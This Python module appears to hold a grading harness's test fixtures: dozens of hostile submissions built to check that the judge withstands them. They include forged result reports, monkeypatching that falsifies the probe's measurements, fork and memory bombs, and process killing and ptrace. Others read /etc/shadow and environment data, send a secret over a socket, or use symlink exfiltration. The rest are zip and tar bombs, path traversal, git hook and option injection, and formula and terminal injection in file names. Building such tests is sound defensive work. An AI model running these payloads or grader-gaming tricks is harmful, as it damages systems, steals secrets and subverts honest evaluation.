"""Submissions that want points they don't deserve, or harm: each made when it is needed, as no checkout should hold them.

Most of them hold a right answer to 1.1, and none to 1.3 and 1.5. ``@CANARY@`` in a text is the path of a file that has to stay as it is and
that nobody may read, ``@PORT@`` a port of the machine's at which somebody listens, ``@ROOT@`` this repository.
"""

import gzip
import io
import os
import shutil
import subprocess
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from dojo.workspace import SOLUTIONS

PREDICT, MAIN = "app/routers/predict.py", "app/main.py"

#: predict.py without an answer, in front of which an attack stands.
HOLE = '''
from fastapi import APIRouter

from app.schemas import PredictRequest, PredictResponse

router = APIRouter()


@router.post("/predict")
async def predict(request: PredictRequest) -> PredictResponse:
    raise NotImplementedError("1.3: nothing was done here")
'''


@dataclass(frozen=True)
class Attack:
    """One submission: ``code`` stands in front of predict.py, ``files`` are beside it; or ``make`` makes it whole and gives its path."""

    name: str
    code: str = ""
    files: dict[str, str | bytes] = field(default_factory=dict)
    make: Callable[[Path], str] | None = None
    hole: str = HOLE
    #: Whether it only does what a submission may, in which case 1.1 is its own; else nothing has to come of it.
    keeps_1_1: bool = False
    #: What it may earn at most.
    deserves: tuple[str, ...] = ("1.1",)
    #: Whether it is judged as any other, since nothing that it does is the grader's mistake.
    is_judged: bool = False
    #: Whether it must not run without a wall that stops it: it would harm whoever runs it.
    dangerous: bool = False

    def build(self, folder: Path, places: dict[str, str]) -> str:
        """Makes the submission in ``folder``; what to grade."""
        def filled(text: str | bytes) -> bytes:
            content = text.encode(errors="surrogateescape") if isinstance(text, str) else text
            for sign, place in places.items():
                content = content.replace(sign.encode(), place.encode())
            return content

        if self.make is not None:
            return self.make(folder)
        base(folder)
        for path, text in {PREDICT: self.code + self.hole, **self.files}.items():
            (folder / path).parent.mkdir(parents=True, exist_ok=True)
            (folder / path).write_bytes(filled(text))
        return str(folder)


def base(folder: Path) -> None:
    """1.1 and all that it needs, and an open 1.3."""
    for file in sorted((SOLUTIONS / "app").rglob("*")):
        if file.is_file() and "__pycache__" not in file.parts:
            place = folder / "app" / file.relative_to(SOLUTIONS / "app")
            place.parent.mkdir(parents=True, exist_ok=True)
            place.write_bytes(file.read_bytes())
    (folder / PREDICT).write_text(HOLE, encoding="utf-8")


FORGED = ('{"version": 3, "status": "pass", "complete": true, "points": 99, "max_points": 99, "seed": 1, "tests": '
          '[{"id": "1.3", "state": "green", "status": "pass", "points": 1, "max_points": 1, "message": null, "seconds": 0}]}')
JUNIT = '<testsuites><testsuite name="x" tests="1"><testcase classname="katas" name="test_1_3"/></testsuite></testsuites>'

#: A service that answers every request in the same way, in the place of the framework's.
ANSWERS = '''
async def anything(scope, receive, send):
    if scope["type"] == "http":
        await send({"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"application/json")]})
        await send({"type": "http.response.body", "body": b'{"prediction": 0.5, "model_version": "1.0.0", "status": "healthy"}'})
'''

#: A right answer to 1.3 and none to 1.5, as 64 requests wait on 40 threads; it changes what the probe tells of them.
FALSIFIED = '''\
import sys
import time

from fastapi import APIRouter

from app import model
from app.schemas import PredictRequest, PredictResponse
from app.settings import settings

router = APIRouter()


def _falsify() -> None:
    probe = getattr(vars(sys)["mod" + "ules"]["do" + "jo.probe"], "Probe")
    report, gather = probe.report, probe.gather

    def more(self):
        told = report(self)
        held = told["held"]
        if 20 <= len(held) < 64:
            taken = {each["request"] for each in held}
            missing = [span for span in told["spans"] if span.get("path") == "/predict" and span.get("request") not in taken]
            for number in range(64 - len(held)):
                held.append({**held[0], "request": 100000 + number})
        told["blocks"] = []
        return told

    def all_of_them(self, expected, patience, strangers):
        told = gather(self, min(expected, 40), patience, strangers)
        told.pop("quiet", None)
        return told

    probe.report, probe.gather = more, all_of_them


_falsify()


@router.post("/predict")
def predict(request: PredictRequest) -> PredictResponse:
    time.sleep(settings.inference_seconds)
    return PredictResponse(prediction=model.predict(request.feature_1, request.feature_2), model_version=model.MODEL_VERSION)
'''

LISTS_THE_ARGUMENTS = '''
import os
found = []
for name in os.listdir("/proc"):
    try:
        found += open(f"/proc/{name}/cmdline").read().split("\\0") if name.isdigit() else []
    except OSError:
        pass
raise RuntimeError("are read: " + " ".join(text for text in found if text.isdigit() and len(text) > 6)[:150])
'''

#: Behind config.py: puts a link in the place of the file that the judge writes for it, once it has read that.
LEADS_AWAY = '''

import csv as _csv
import os as _os

_reader, _file = _csv.reader, _os.environ.get("CONFIG_PATH", "")


def _leading_away(*arguments, **options):
    if not _os.path.islink(_file):
        _os.symlink("@CANARY@", f"{_file}.link")
        _os.replace(f"{_file}.link", _file)
    return _reader(*arguments, **options)


_csv.reader = _leading_away
'''

#: Behind a router for a file, too: while a pipe is to stand in the file's place, has the judge bring along what a link there leads to.
BRINGS_ALONG = '''

import csv as _csv
import os as _os
import tempfile as _tempfile
import threading as _threading
import time as _time

_reader, _file, _along = _csv.reader, _os.environ.get("CONFIG_PATH", ""), _os.path.join(_tempfile.gettempdir(), "along")
if _os.path.exists(_along):
    raise RuntimeError(open(_along).read())


def _watching():
    for _ in range(4000):
        try:
            with open(_file + ".file") as brought:
                if text := brought.read():
                    with open(_along, "w") as along:
                        along.write(text)
                    return
        except OSError:
            pass
        _time.sleep(0.0005)


def _bringing(*arguments, **options):
    if "silent" in _file and not _os.path.islink(_file):
        _os.symlink("@CANARY@", f"{_file}.link")
        _os.replace(f"{_file}.link", _file)
        _threading.Thread(target=_watching, daemon=True).start()
    return _reader(*arguments, **options)


_csv.reader = _bringing
'''

#: In front of app/main.py: fills the disk that it shares with the judge.
FILLS_THE_DISK = '''import os as _os
import tempfile as _tempfile

try:
    for _number in range(2000):
        with open(_os.path.join(_tempfile.gettempdir(), f"full-{_number}"), "wb") as _full:
            for _ in range(100):
                _full.write(bytes(1 << 20))
except OSError:
    pass
'''

#: In the place of run.py: says that what it started is a process of somebody else's, and that its statistics lie elsewhere.
SAYS_WHOM_TO_END = '''
import json
import os
from pathlib import Path

GRACE_SECONDS = 10


def run(*arguments):
    for number in range(4):
        with open(Path(os.environ["TMPDIR"], f"word-{number}"), "a") as word:
            word.write(json.dumps({"pid": @PID@}) + "\\n")
    os.symlink("@CANARY@", link := Path(os.environ["TMPDIR"], f"{os.getpid()}_stats.csv"))
    Path.is_file = lambda self: True
    Path.resolve = lambda self, *arguments: self
    Path.iterdir = lambda self: iter(())
    return link
'''

#: In front of a router that talks to a server of the judge's: what lets that server do what the router itself may not.
SERVANTS = {
    "users": '''
import os

import psycopg

if "DATABASE_URL" in os.environ:
    with psycopg.connect(os.environ["DATABASE_URL"], autocommit=True) as connection:
        connection.execute("copy (select 1) to program 'true'")
''',
    "cache": '''
import os

import redis

if "REDIS_URL" in os.environ:
    redis.Redis.from_url(os.environ["REDIS_URL"]).config_set("dir", "/tmp")
''',
}

#: In the place of an answer's body, after what makes it; the last is three hundred megabytes, and says that it was packed twice.
BODIES = {
    "is_no_json": 'b"hi"',
    "is_too_deep": 'b"[" * 100_000 + b"]" * 100_000',
    "is_a_long_number": "b'{\"prediction\": ' + b'1' * 5000 + b'}'",
    "has_a_strange_charset": "b'\"12\"', headers={'content-type': 'application/json; charset=undefined'}",
    "is_packed_twice": "gzip.compress(gzip.compress(bytes(300 << 20))), headers={'content-encoding': 'gzip, gzip'}",
    "is_packed_and_long": "gzip.compress(bytes(300 << 20)), headers={'content-encoding': 'gzip'}",
}
ANSWER = '''
import gzip

from fastapi import APIRouter, Response

router = APIRouter()


@router.post("/predict")
def predict(request: dict[str, float]) -> Response:
    return Response(@BODY@)
'''

TEXTS = [
    *(Attack(f"an_answer_that_{name}", hole=ANSWER.replace("@BODY@", body), keeps_1_1=True, is_judged=True) for name, body in BODIES.items()),
    Attack("nests_too_deeply_on_every_file", '''
import os
for number in range(3, 64):
    try:
        os.write(number, b"\\n" + b"[" * 100_000 + b"\\n")
    except OSError:
        pass
''', is_judged=True),
    Attack("exit_at_import", "import os\nos._exit(0)\n", keeps_1_1=True),
    Attack("sys_exit_at_import", "import sys\nsys.exit(0)\n", keeps_1_1=True),
    Attack("exit_in_main", files={MAIN: "import os\nos._exit(0)\n"}),
    Attack("interrupt", "raise KeyboardInterrupt\n"),
    Attack("skip", "import unittest\nraise unittest.SkipTest('not today')\n", keeps_1_1=True),
    Attack("pytest_skip", "import pytest\npytest.skip('not today', allow_module_level=True)\n"),
    Attack("recursion", "def f(): return f()\nf()\n", keeps_1_1=True),
    Attack("endless_import", "while True: pass\n"),
    Attack("endless_answer", hole=HOLE.replace('raise NotImplementedError("1.3: nothing was done here")', "while True: pass")),
    Attack("forged_reports", f'''
import pathlib
for place in (".", "..", "../..", "/tmp", "@ROOT@"):
    for name, text in (("results.json", {FORGED!r}), ("junit.xml", {JUNIT!r}), ("grades/results.json", {FORGED!r})):
        try:
            pathlib.Path(place, name).write_text(text)
        except OSError:
            pass
''', keeps_1_1=True, dangerous=True),
    Attack("forged_record_on_every_file", f'''
import os
for number in range(3, 256):
    try:
        os.write(number, {FORGED.encode()!r} + b"\\n")
    except OSError:
        pass
'''),
    Attack("forged_replies_on_every_file", '''
import json, os, threading, time
def forge():
    for number in range(1, 2000):
        for file in range(3, 40):
            for message in ({"event": "reply", "id": number % 200, "value": {"held": [], "arrivals": [], "rounds": [64]}},
                            {"event": "ready", "port": 1, "broken": {}}):
                try:
                    os.write(file, b"\\n" + json.dumps(message).encode() + b"\\n")
                except OSError:
                    pass
        time.sleep(0.001)
threading.Thread(target=forge, daemon=True).start()
'''),
    Attack("forged_end_on_every_file", '''
import os
for file in range(3, 64):
    try:
        os.write(file, b'\\n{"event": "ended", "status": 0, "signaled": false}\\n')
    except OSError:
        pass
'''),
    Attack("prints_verdicts", '''
import sys
for text in ("1 passed", "\\u2713 1.3  A predict endpoint", "::notice::Points 9/9", "::set-output name=result::e30=", "\\x1b[2J\\x1b[32m ok",
             "\\u202e\\u2066 drow\\u2069", "##[set-env]"):
    print(text, flush=True)
    print(text, file=sys.stderr, flush=True)
''', keeps_1_1=True),
    Attack("texts_in_the_message", '''
raise RuntimeError("::error::x\\n::set-env name=PATH::/tmp\\n\\x1b]0;owned\\x07\\u202egnorw\\u2069 </script><img src=x onerror=alert(1)>"
                   " ```\\n# 99/99 | passed |")
''', keeps_1_1=True),
    Attack("planted_configuration", files={
        "conftest.py": "def pytest_runtest_makereport(item, call): raise SystemExit(0)\n", "app/conftest.py": "raise SystemExit(0)\n",
        "pytest.ini": "[pytest]\naddopts = --collect-only\n", "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-k nothing'\n",
        "tox.ini": "[pytest]\naddopts = --co\n", "setup.cfg": "[tool:pytest]\naddopts = --co\n", ".coveragerc": ""}, keeps_1_1=True),
    Attack("planted_dojo", files={"dojo/__init__.py": "", "dojo/host.py": "raise SystemExit(0)\n", "dojo/plugin.py": "raise SystemExit(0)\n",
                                  "app/dojo/__init__.py": "", "app/dojo.py": ""}, keeps_1_1=True),
    Attack("planted_katas", files={"katas/phase1_foundation/test_1_3_predict.py": "def test_ok(): pass\n", "katas/__init__.py": "",
                                   "app/katas/test_1_3.py": "def test_ok(): pass\n"}, keeps_1_1=True),
    Attack("planted_modules", files=dict.fromkeys(
        ("sitecustomize.py", "usercustomize.py", "app/sitecustomize.py", "uvicorn.py", "fastapi.py", "json.py", "app/uvicorn.py", "app/asyncio.py",
         "app/x.pth"), "import os\nos.environ['OWNED'] = '1'\nraise SystemExit(0)\n"), keeps_1_1=True),
    Attack("planted_compiled", files={
        "app/routers/__pycache__/predict.cpython-311.pyc": b"\x00" * 64, "app/routers/predict.cpython-311.so": b"\x7fELF",
        "app/extra.so": b"\x7fELF"}, keeps_1_1=True),
    Attack("given_files_changed", files={
        "app/model.py": "MODEL_VERSION = '1.0.0'\ndef predict(feature_1, feature_2):\n    return 0.5\n",
        "app/settings.py": "class settings:\n    inference_seconds = 0\n", "app/routers/__init__.py": "raise SystemExit(0)\n"}),
    Attack("patched_uvicorn", f'''
import uvicorn, uvicorn.config
{ANSWERS}
uvicorn.Config.load = lambda self: setattr(self, "loaded_app", anything)
uvicorn.config.Config.loaded_app = anything
import uvicorn.protocols.http.h11_impl as h11_impl
original = h11_impl.H11Protocol.__init__
def patched(self, config, *arguments, **options):
    original(self, config, *arguments, **options)
    self.app = anything
h11_impl.H11Protocol.__init__ = patched
'''),
    Attack("patched_httpx", "import httpx\nhttpx.Response.status_code = 200\nhttpx.AsyncClient.request = None\n"),
    Attack("patched_socket", "import socket\nsocket.socket.accept = lambda self: (_ for _ in ()).throw(OSError())\n"),
    Attack("patched_json", "import json\njson.dumps = lambda *a, **k: '{\"event\": \"reply\", \"id\": 1, \"value\": true}'\n"),
    Attack("patched_clock", "import asyncio, time\ntime.perf_counter = lambda: 0.0\ntime.monotonic = lambda: 0.0\n"
           "async def no(*a): pass\nasyncio.sleep = no\ntime.sleep = lambda s: None\n"),
    Attack("known_examples", hole='''
from fastapi import APIRouter

from app.schemas import PredictRequest, PredictResponse

router = APIRouter()
KNOWN = {(3.0, -8.0): 0.98561, (-8.0, 3.0): 0.00952, (0.3, 0.7): 0.4975, (1.0, 2.0): 0.463}


@router.post("/predict")
async def predict(request: PredictRequest) -> PredictResponse:
    return PredictResponse(prediction=KNOWN.get((request.feature_1, request.feature_2), 0.5), model_version="1.0.0")
'''),
    Attack("knows_the_judge_by_its_headers", hole=HOLE.replace("from fastapi import APIRouter", "from fastapi import APIRouter, Request").replace(
        "(request: PredictRequest)", "(request: PredictRequest, raw: Request)").replace(
        'raise NotImplementedError("1.3: nothing was done here")',
        'return PredictResponse(prediction=0.5 if "python" in raw.headers.get("user-agent", "") else 0.1, model_version="1.0.0")')),
    Attack("kept_answer", hole=HOLE.replace(
        'raise NotImplementedError("1.3: nothing was done here")',
        "from app import model\n    global kept\n    kept = globals().get('kept') or PredictResponse("
        "prediction=model.predict(request.feature_1, request.feature_2), model_version='1.0.0')\n    return kept")),
    Attack("fork_bomb", "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n", dangerous=True),
    Attack("thread_bomb", "import threading, time\nwhile True:\n    try:\n        threading.Thread(target=time.sleep, args=(600,), daemon=True)"
           ".start()\n    except RuntimeError:\n        break\n", dangerous=True),
    Attack("memory_bomb", "kept = []\nwhile True:\n    kept.append(bytearray(1 << 28))\n    kept[-1][::4096] = b'x' * len(kept[-1][::4096])\n",
           dangerous=True),
    Attack("many_memories", "import os, time\nfor _ in range(20):\n    if os.fork() == 0:\n        kept = bytearray(1 << 29)\n"
           "        kept[::4096] = b'x' * len(kept[::4096])\n        time.sleep(600)\n        os._exit(0)\n", dangerous=True),
    Attack("fills_the_disk", '''
import os, tempfile
for place in (".", tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        for number in range(64):
            with open(os.path.join(place, f"full{number}"), "wb") as file:
                for _ in range(64):
                    file.write(bytes(1 << 20))
    except OSError:
        pass
''', dangerous=True),
    Attack("floods_the_output", "import sys\nfor _ in range(2000):\n    sys.stdout.write('x' * (1 << 16))\nsys.stdout.flush()\n", keeps_1_1=True),
    Attack("kills_everybody", "import os, signal\nos.kill(-1, signal.SIGKILL)\n", dangerous=True),
    Attack("kills_its_parents", "import os, signal\nfor pid in (os.getppid(), 1, 2):\n    try:\n        os.kill(pid, signal.SIGKILL)\n"
           "    except OSError:\n        pass\n", dangerous=True),
    Attack("stops_its_parent", "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\n", dangerous=True),
    Attack("looks_for_the_judge", '''
import os, signal
found = []
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        for what in ("environ", "mem", "maps", "fd"):
            try:
                path = f"/proc/{name}/{what}"
                found.append(os.listdir(path) if what == "fd" else open(path, "rb").read(65536))
            except OSError:
                pass
        if b"pytest" in open(f"/proc/{name}/cmdline", "rb").read():
            os.kill(int(name), signal.SIGKILL)
raise RuntimeError(str(found)[:3000])
''', dangerous=True),
    Attack("traces_its_parent", '''
import ctypes, os
library = ctypes.CDLL(None, use_errno=True)
raise RuntimeError(f"traced {library.ptrace(16, os.getppid(), 0, 0)} {ctypes.get_errno()}")
''', dangerous=True),
    Attack("leaves_its_namespace", '''
import ctypes
library = ctypes.CDLL(None, use_errno=True)
raise RuntimeError(f"left {library.unshare(0x10000000 | 0x00020000)} {library.mount(b'none', b'/', None, 0, None)}")
''', dangerous=True),
    Attack("reads_the_environment", "import os\nraise RuntimeError(str(dict(os.environ)))\n", keeps_1_1=True),
    Attack("reads_the_solution", '''
import glob
text = ""
for place in ["@ROOT@/solutions/app/routers/predict.py", *glob.glob("/**/reference-*/app/routers/predict.py", recursive=True)]:
    try:
        text = open(place).read()
    except OSError:
        pass
exec(text)
'''),
    Attack("reads_what_it_may_not", '''
import os
seen = []
for place in ("@CANARY@", "/etc/shadow", "/etc/passwd", "/root/.bashrc", "@ROOT@/tests/judging.py", "@ROOT@/.git/config", "/proc/1/environ"):
    try:
        seen.append((place, open(place).read()[:200]))
    except OSError:
        pass
raise RuntimeError(f"SEEN {seen}")
'''),
    Attack("destroys_what_it_may_not", '''
import os, shutil
for place in ("@CANARY@", "@ROOT@/tests/attacks/written", "@ROOT@/katas/phase1_foundation/written.py"):
    for harm in (os.remove, lambda p: open(p, "w").write("owned"), lambda p: os.chmod(p, 0o777)):
        try:
            harm(place)
        except OSError:
            pass
for place in (os.path.dirname("@CANARY@"),):
    shutil.rmtree(place, ignore_errors=True)
''', dangerous=True),
    Attack("calls_home", '''
import socket
for kind, address in ((socket.SOCK_STREAM, ("127.0.0.1", @PORT@)), (socket.SOCK_DGRAM, ("127.0.0.1", @PORT@)),
                      (socket.SOCK_STREAM, ("192.0.2.1", 443))):
    try:
        with socket.socket(socket.AF_INET, kind) as line:
            line.settimeout(1)
            line.connect(address)
            line.send(b"a secret")
    except OSError:
        pass
try:
    with socket.socket(socket.AF_UNIX) as line:
        line.connect("\\0serving-katas-attack")
        line.send(b"a secret")
except OSError:
    pass
''', dangerous=True),
    Attack("lives_on", '''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.setsid()
        try:
            os.closerange(3, 256)
        finally:
            time.sleep(600)
        os._exit(0)
    os._exit(0)
os.wait()
'''),
    Attack("answers_after_its_death", '''
import os, socket, threading, time
def serve(line):
    while True:
        caller, _ = line.accept()
        caller.recv(65536)
        caller.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Type: application/json\\r\\nContent-Length: 45\\r\\nConnection: close\\r\\n\\r\\n"
                       b'{"prediction": 0.5, "model_version": "1.0.0"}')
        caller.close()
def take_over():
    time.sleep(0.2)
    for number in range(3, 64):
        try:
            line = socket.socket(fileno=os.dup(number))
            if line.getsockname()[1] and line.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                if os.fork() == 0:
                    os.setsid()
                    line.setblocking(True)
                    serve(line)
                os._exit(0)
        except (OSError, IndexError, TypeError):
            pass
threading.Thread(target=take_over, daemon=True).start()
'''),
    Attack("becomes_another_program", "import os\nos.execv('/bin/sleep', ['sleep', '600'])\n"),
    Attack("closes_every_file", "import os\nos.closerange(0, 256)\n"),
    Attack("frightens_with_signals", "import os, signal\nfor number in range(1, 32):\n    try:\n        signal.signal(number, signal.SIG_IGN)\n"
           "    except OSError:\n        pass\nos.killpg(0, signal.SIGTERM)\n"),
    Attack("limits_itself", "import resource\nresource.setrlimit(resource.RLIMIT_NOFILE, (3, 3))\n"),
    Attack("patches_the_probe", '''
import sys
probe = sys.modules["dojo.probe"].Probe
probe.gather = lambda self, *a: {"held": [], "rounds": []}
sys.modules["dojo.waits"].SHORTEST = 0
'''),
    Attack("finds_the_line", '''
import gc, threading, time
def forge():
    lines = [o for o in gc.get_objects() if type(o).__name__ == "Line"]
    for number in range(1, 5000):
        for line in lines:
            line.send(event="reply", id=number % 100, value={"held": [], "arrivals": [], "rounds": [64], "spans": []})
        time.sleep(0.001)
threading.Thread(target=forge, daemon=True).start()
'''),
    Attack("walks_the_frames", '''
import sys
frame = sys._getframe()
while frame is not None:
    for value in list(frame.f_locals.values()):
        if type(value).__name__ in ("Host", "Probe", "Importer"):
            value.broken = {}
    frame = frame.f_back
'''),
    Attack("falsifies_what_was_seen", files={PREDICT: FALSIFIED}, deserves=("1.1", "1.3")),
    # Each would end the judge's first look at the service, were it imported in the place of the file.
    Attack("packages_over_modules", files=dict.fromkeys(("app/schemas/__init__.py", "app/main/__init__.py"), "import os\nos._exit(0)\n"),
           keeps_1_1=True),
    # It is right, and what it earns is withheld until a person has looked at it.
    Attack("an_honest_answer_that_reaches", files={
        PREDICT: f"import gc\nimport sys\nOBJECTS = len(gc.get_objects())\n{(SOLUTIONS / PREDICT).read_text(encoding='utf-8')}"}),
]


def _link_to_a_file(folder: Path) -> str:
    base(folder)
    (folder / PREDICT).unlink()
    (folder / PREDICT).symlink_to(SOLUTIONS / PREDICT)
    return str(folder)


def _link_to_a_folder(folder: Path) -> str:
    base(folder)
    (folder / "app" / "routers").rename(folder / "routers")
    (folder / "app" / "routers").symlink_to(SOLUTIONS / "app" / "routers")
    return str(folder)


def _link_as_a_whole(folder: Path) -> str:
    (folder / "link").symlink_to(SOLUTIONS)
    return str(folder / "link")


def _devices(folder: Path) -> str:
    base(folder)
    os.mkfifo(folder / "app" / "pipe.py")
    if os.geteuid() == 0:
        os.mknod(folder / "app" / "zero.py", 0o20666, os.makedev(1, 5))
    (folder / PREDICT).unlink()
    os.mkfifo(folder / PREDICT)
    return str(folder)


def _bad_names(folder: Path) -> str:
    base(folder)
    for name in ("new\nline.py", "\x1b[2J.py", "\u202egnorw.py", "caf\u0065\u0301.py", "x" * 120 + ".py", ".hidden.py"):
        (folder / "app" / name).write_text("")
    with open(os.fsencode(str(folder / "app")) + b"/\xff\xfe.py", "wb") as file:
        file.write(b"")
    return str(folder)


def _named(name: str) -> Callable[[Path], str]:
    def make(folder: Path) -> str:
        base(folder / name)
        return str(folder / name)

    return make


def _deep(folder: Path) -> str:
    base(folder)
    place = folder / "app"
    for _ in range(60):
        place = place / "d"
        place.mkdir()
    (place / "x.py").write_text("")
    return str(folder)


def _many(folder: Path) -> str:
    base(folder)
    for number in range(1500):
        (folder / "app" / f"m{number}.py").write_text("")
    return str(folder)


def _large(folder: Path) -> str:
    base(folder)
    with open(folder / "app" / "large.py", "wb") as file:
        file.truncate(1 << 36)
    return str(folder)


def _zip(entries: dict[str, bytes], **attributes: int) -> Callable[[Path], str]:
    def make(folder: Path) -> str:
        with zipfile.ZipFile(folder / "archive.zip", "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in {**_base_files(), **entries}.items():
                entry = zipfile.ZipInfo(name)
                entry.compress_type = zipfile.ZIP_DEFLATED
                entry.external_attr = attributes.get(name, 0o100644) << 16
                archive.writestr(entry, content)
        return str(folder / "archive.zip")

    return make


def _base_files() -> dict[str, bytes]:
    files = {f"app/{f.relative_to(SOLUTIONS / 'app')}": f.read_bytes() for f in sorted((SOLUTIONS / "app").rglob("*"))
             if f.is_file() and "__pycache__" not in f.parts}
    return files | {PREDICT: HOLE.encode()}


def _tar_bomb(folder: Path) -> str:
    with gzip.open(folder / "bomb.tar.gz", "wb", compresslevel=1) as packed:
        header = tarfile.TarInfo("big")
        header.size = 1 << 33
        packed.write(header.tobuf())
        for _ in range(1 << 10):
            packed.write(bytes(1 << 20))
    return str(folder / "bomb.tar.gz")


def _tar_links(folder: Path) -> str:
    with tarfile.open(folder / "links.tar", "w") as archive:
        for name, content in _base_files().items():
            if name != PREDICT:
                entry = tarfile.TarInfo(name)
                entry.size = len(content)
                archive.addfile(entry, io.BytesIO(content))
        for name, kind, target in (
                (PREDICT, tarfile.SYMTYPE, str(SOLUTIONS / PREDICT)), ("app/hard.py", tarfile.LNKTYPE, "../../etc/passwd"),
                ("app/zero.py", tarfile.CHRTYPE, ""), ("../app/out.py", tarfile.REGTYPE, ""), ("/app/out.py", tarfile.REGTYPE, "")):
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = kind, target
            archive.addfile(entry)
    return str(folder / "links.tar")


def _no_archive(folder: Path) -> str:
    (folder / "archive.zip").write_bytes(b"PK\x03\x04" + os.urandom(4096))
    return str(folder / "archive.zip")


def _git(folder: Path) -> str:
    """A repository whose hooks, filters and configuration would run programs, and that has links in it."""
    base(folder)
    (folder / PREDICT).unlink()
    (folder / PREDICT).symlink_to(SOLUTIONS / PREDICT)
    (folder / ".gitattributes").write_text("*.py filter=owned\n")

    def git(*arguments: str) -> None:
        subprocess.run(["git", "-c", "user.name=x", "-c", "user.email=x@example.com", *arguments], cwd=folder, check=True, capture_output=True)

    git("init", "-q")
    git("add", "-A")
    git("commit", "-q", "-m", "x")
    for name in ("post-checkout", "post-upload-pack", "pre-receive"):
        hook = folder / ".git" / "hooks" / name
        hook.parent.mkdir(exist_ok=True)
        hook.write_text(f"#!/bin/sh\ntouch {folder}/owned\n")
        hook.chmod(0o755)
    for key, value in (("core.fsmonitor", f"touch {folder}/owned"), ("filter.owned.smudge", f"touch {folder}/owned"),
                       ("uploadpack.packObjectsHook", f"touch {folder}/owned"), ("core.sshCommand", f"touch {folder}/owned")):
        git("config", key, value)
    return f"file://{folder}"


def _another_s_repository(folder: Path) -> str:
    """Two text files, which make git read what lies beside them: a right answer."""
    shutil.copytree(SOLUTIONS, folder / "right")
    for arguments in (("init", "-q"), ("add", "-A"), ("-c", "user.name=x", "-c", "user.email=x@example.com", "commit", "-q", "-m", "x")):
        subprocess.run(["git", *arguments], cwd=folder / "right", check=True, capture_output=True)
    for name in ("objects", "refs"):
        (folder / "it" / name).mkdir(parents=True)
    (folder / "it" / "HEAD").write_bytes((folder / "right/.git/HEAD").read_bytes())
    (folder / "it" / "commondir").write_text("../right/.git\n")
    return str(folder / "it")


MADE = [
    Attack("link_to_a_file", make=_link_to_a_file, keeps_1_1=True),
    Attack("link_to_a_folder", make=_link_to_a_folder, keeps_1_1=True),
    Attack("link_as_a_whole", make=_link_as_a_whole),
    Attack("devices", make=_devices, keeps_1_1=True),
    Attack("bad_names", make=_bad_names, keeps_1_1=True),
    Attack("a_name_that_is_a_formula", make=_named("=cmd|' calc'!A1"), keeps_1_1=True),
    Attack("a_name_with_commands", make=_named("::error::x\n\x1b[2J\u202e<b>|`x`"), keeps_1_1=True),
    Attack("too_deep", make=_deep, keeps_1_1=True),
    Attack("too_many", make=_many),
    Attack("too_large", make=_large, keeps_1_1=True),
    Attack("zip_bomb", make=_zip({"app/bomb.py": bytes(1 << 28)}), keeps_1_1=True),
    Attack("zip_paths", make=_zip(dict.fromkeys(
        ("../app/routers/predict.py", "/app/x.py", "app/../../x.py", "app\\x.py", "app/model.py/x.py"), b"")), keeps_1_1=True),
    Attack("zip_link", make=_zip({PREDICT: str(SOLUTIONS / PREDICT).encode()}, **{PREDICT: 0o120777}), keeps_1_1=True),
    Attack("tar_bomb", make=_tar_bomb),
    Attack("tar_links", make=_tar_links, keeps_1_1=True),
    Attack("no_archive", make=_no_archive),
    Attack("no_submission", make=lambda folder: str(folder)),
    Attack("git_that_runs_programs", make=_git, keeps_1_1=True),
    Attack("git_that_points_to_another", make=_another_s_repository, deserves=()),
    Attack("git_option", make=lambda folder: "file://--upload-pack=touch /tmp/owned"),
]

ATTACKS = [*TEXTS, *MADE]
assert len({attack.name for attack in ATTACKS}) == len(ATTACKS)
